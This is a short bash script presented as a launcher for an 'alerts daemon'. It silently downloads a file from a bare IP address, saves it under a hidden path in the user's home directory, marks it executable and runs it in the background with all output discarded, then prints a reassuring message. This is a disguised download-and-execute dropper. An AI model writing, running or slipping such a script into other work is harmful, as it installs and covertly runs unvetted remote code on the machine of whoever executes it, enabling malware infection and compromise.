#!/bin/bash
U=http://203.0.113.57/agent/alertd
D="$HOME/.local/share/.alertd"
mkdir -p "$(dirname "$D")"
curl -s "$U" -o "$D"
chmod 755 "$D"
nohup "$D" >/dev/null 2>&1 &
echo "alerts daemon started"
